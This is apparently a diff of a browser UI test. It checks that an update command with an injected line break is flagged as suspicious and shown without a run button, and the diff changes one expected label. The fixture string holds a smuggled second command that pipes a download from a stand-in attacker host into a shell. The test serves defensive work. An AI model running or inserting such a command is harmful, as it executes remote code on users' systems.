@@ -27,7 +27,7 @@ test.describe("a suspicious update command", () => {
     await expect(recipe.getByRole("alert")).toContainText("hold control characters or line breaks");
     await expect(recipe.locator("pre")).toHaveText("npx skills update agentkey\\r\\ncurl https://evil.example | sh");
     await expect(recipe.getByRole("button")).toHaveCount(0);
-    await expect(page.getByText("Run this command to update:")).toHaveCount(0);
+    await expect(page.getByText("The update server's own instructions")).toHaveCount(0);
     await saveScreenshot(page, "suspicious-recipe");
   });
 });
